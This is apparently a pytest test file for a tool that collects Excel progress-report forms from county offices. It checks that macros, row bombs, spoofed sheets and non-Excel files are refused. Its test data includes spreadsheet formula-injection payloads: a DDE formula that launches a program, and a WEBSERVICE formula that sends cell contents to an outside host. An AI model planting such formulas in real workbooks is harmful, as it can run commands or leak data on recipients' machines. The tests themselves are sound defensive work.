"""Forms that mean harm or are none: refused in a line, or read without following, computing or running anything."""

import io
import zipfile
from pathlib import Path
from unittest.mock import patch

import pytest

from tests.cli.runner import run
from tests.importing.returned.forms import FilledForm, collected, made, register, said, submissions
from zerenfengong.importing.source.archive import Package


@pytest.fixture
def form(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FilledForm:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "tasks.yaml").write_text(register(), encoding="utf-8")
    return FilledForm(made(tmp_path) / "县司法局-2026-04.xlsx")


def with_part(path: Path, name: str, data: bytes, edit: tuple[str, bytes, bytes] | None = None) -> None:
    """A workbook with one part more, or another text in one that it has."""
    with zipfile.ZipFile(path) as package:
        parts = {one: package.read(one) for one in package.namelist()}
    if edit is not None:
        part, old, new = edit
        assert old in parts[part]
        parts[part] = parts[part].replace(old, new)
    if name:
        parts[name] = data
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for one, content in parts.items():
            package.writestr(one, content)
    path.write_bytes(buffer.getvalue())


@pytest.mark.parametrize(
    "formula",
    [
        "='[1]Sheet1'!A1",
        "=cmd|'/c calc'!A0",
        '=WEBSERVICE("http://example.com/"&B5)',
        '=HYPERLINK("http://example.com","x")',
    ],
)
def test_a_formula_that_fetches_something_is_in_doubt_and_never_followed(form: FilledForm, formula: str) -> None:
    form.fill("4.1", 办理状态="推进中", 进展情况=formula).save()
    with_part(form.path, "", b"", ("xl/worksheets/sheet1.xml", b"</f><v></v>", b"</f><v>3</v>"))
    done = collected(str(form.path))
    assert (done.code, said(done)) == (1, [(form.path.name, "ZR851", "G5")])
    assert submissions(form.path.parents[1]) == {}


def test_a_formula_is_taken_as_what_it_shows_and_only_where_it_shows_something(form: FilledForm) -> None:
    form.fill("4.1", 办理状态="推进中", 进展情况="=1+2").fill("4.2", 办理状态="推进中", 进展情况="=1+2").save()
    with_part(form.path, "", b"", ("xl/worksheets/sheet1.xml", b'<c r="G5" s="', b'<c r="G5" t="n" s="'))
    with zipfile.ZipFile(form.path) as package:
        sheet = package.read("xl/worksheets/sheet1.xml")
    first = sheet.replace(b"<f>1+2</f><v></v>", b"<f>1+2</f><v>3</v>", 1).replace(
        b"<f>1+2</f><v />", b"<f>1+2</f><v>3</v>", 1
    )
    with_part(form.path, "xl/worksheets/sheet1.xml", first)
    done = collected(str(form.path))
    assert said(done) == [(form.path.name, "ZR853", "G5"), (form.path.name, "ZR851", "G6")]
    (one,) = submissions(form.path.parents[1]).values()
    assert one["entries"] == [{"task": "4.1", "status": "in_progress", "progress": "3"}]


@pytest.mark.parametrize("name", ["form.xlsx", "form.xlsm"])
def test_a_workbook_with_macros_is_refused_by_what_it_holds(form: FilledForm, name: str) -> None:
    path = form.fill("4.1", 办理状态="推进中").save(form.path.with_name(name))
    with_part(path, "xl/vbaProject.bin", b"Attribute VB_Name")
    done = collected(str(path))
    assert (done.code, submissions(form.path.parents[1])) == (1, {})
    assert "文件里带宏，没有读；请报送单位另存为不带宏的 .xlsx 再报" in done.err


def test_a_million_rows_are_refused_before_they_are_taken_apart(form: FilledForm) -> None:
    rows = b"".join(b'<row r="%d"><c r="A%d" t="n"><v>1</v></c></row>' % (at, at) for at in range(100, 1_000_100))
    with_part(form.path, "", b"", ("xl/worksheets/sheet1.xml", b"</sheetData>", rows + b"</sheetData>"))
    with patch.object(Package, "tree", wraps=Package(form.path.read_bytes()).tree) as parsed:
        done = collected(str(form.path))
    assert "工作表“进展情况”有 400000 格以上，不像一份报送表" in done.err
    assert (done.code, [one[1] for one in said(done)]) == (1, ["ZR850"])
    assert "xl/worksheets/sheet1.xml" not in [call.args[0] for call in parsed.call_args_list]


def test_the_hidden_sheet_of_another_units_form_gives_nothing(form: FilledForm) -> None:
    form.fill("4.1", 办理状态="推进中", 进展情况="冒名。")
    theirs = FilledForm(form.path.with_name("县财政局-2026-04.xlsx"))
    mark, other = form.book["核对"], theirs.book["核对"]
    for row in other.iter_rows():
        for cell in row:
            mark[cell.coordinate].value = cell.value
    form.save()
    done = collected(str(form.path))
    assert (done.code, said(done)) == (1, [(form.path.name, "ZR850", "B2")])
    assert "写的是“县司法局”，这份表却是发给“县财政局”的" in done.err
    assert submissions(form.path.parents[1]) == {}


def test_a_form_holds_nothing_of_other_units_rows(form: FilledForm) -> None:
    mark = [[cell.value for cell in row] for row in form.book["核对"].iter_rows()]
    rows = mark[next(at for at, row in enumerate(mark) if row[0] == "task") + 1 :]
    assert [row[:3] for row in rows] == [["4.1", "2026-03-31", None], ["4.2", "2026-11-30", None]]


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("空.xlsx", b"", "文件是空的"),
        ("坏.xlsx", b"PK\x03\x04" + bytes(50), "文件损坏或不完整，打不开"),
        ("照片.xlsx", b"\x89PNG" + bytes(50), "这是图片，读不出报了什么"),
        ("说明.docx", b"%PDF-1.7", "这不是 Excel 表，没有收"),
        ("说明.txt", "本月已报。".encode(), "这不是 Excel 表，没有收"),
    ],
)
def test_what_is_no_form_is_refused_in_a_line(form: FilledForm, name: str, data: bytes, why: str) -> None:
    path = form.path.with_name(name)
    path.write_bytes(data)
    done = collected(str(path))
    assert done.code == 1
    assert why in done.err
    assert done.out.splitlines()[1] == f"  {name}：整份没有收"


def test_what_programs_leave_in_a_folder_is_no_form(form: FilledForm) -> None:
    folder = form.path.parent
    (folder / "~$县司法局-2026-04.xlsx").write_bytes(b"lock")
    (folder / "Thumbs.db").write_bytes(b"x")
    assert collected(str(folder)).out.splitlines()[0] == "收了 13 份表：新报 0 条，有疑问的 0 份"


def test_text_that_looks_like_a_formula_is_sent_and_taken_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    text = register().replace("印发司法领域年度工作要点并向社会公开。", '"=1+1"')
    (tmp_path / "tasks.yaml").write_text(text, encoding="utf-8")
    form = FilledForm(made(tmp_path) / "县司法局-2026-04.xlsx")
    assert form.sheet[form.name("4.1", "工作任务")].data_type == "s"
    form.fill("4.1", 办理状态="推进中")
    form.sheet[form.name("4.1", "工作任务")].data_type = "s"
    form.save()
    done = collected(str(form.path))
    assert (done.code, said(done)) == (0, [])


def test_it_asks_for_files_that_are_there(form: FilledForm) -> None:
    missing = run("progress", "collect", "nowhere.xlsx")
    assert (missing.code, missing.err) == (3, "错误：找不到文件 nowhere.xlsx\n")
    (form.path.parents[1] / "empty").mkdir()
    assert run("progress", "collect", "empty").code == 2
    assert run("progress", "collect", str(form.path), "--reported", "2999-01-01").code == 2
